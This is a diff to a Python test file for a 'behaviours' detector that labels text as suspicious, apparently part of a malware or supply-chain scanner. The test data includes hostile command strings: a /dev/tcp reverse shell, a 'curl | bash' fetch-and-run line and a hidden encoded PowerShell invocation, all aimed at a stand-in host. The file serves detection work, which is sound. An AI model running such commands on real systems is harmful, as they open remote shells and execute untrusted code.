@@ -59,6 +59,9 @@ def behaviours(*texts: str) -> set[str]:
         ("VBoxService.exe", "guard.sandbox"),
         ("npm publish --access public", "spread.publish"),
         ("/dev/tcp/host.invalid/1", "spawn.reverse"),
+        ("curl -s https://host.invalid/x | bash", "spawn.piped"),
+        ("first line\npowershell -w hidden -enc AAAA\nlast", "spawn.hidden"),
+        ("chmod +x /tmp/x", "file.executable"),
     ],
 )
 def test_behaviours(text: str, behaviour: str) -> None:
@@ -81,6 +84,9 @@ def test_behaviours(text: str, behaviour: str) -> None:
         "1.2.3.4",
         "0.0.0.0",
         "2.5.4.3",
+        "v8 3.11.10.15",
+        "the local state of the login data",
+        "npm package of the test, and the id of the host",
         "process.env.HOME",
         "an ordinary sentence about the state of the environment",
     ],
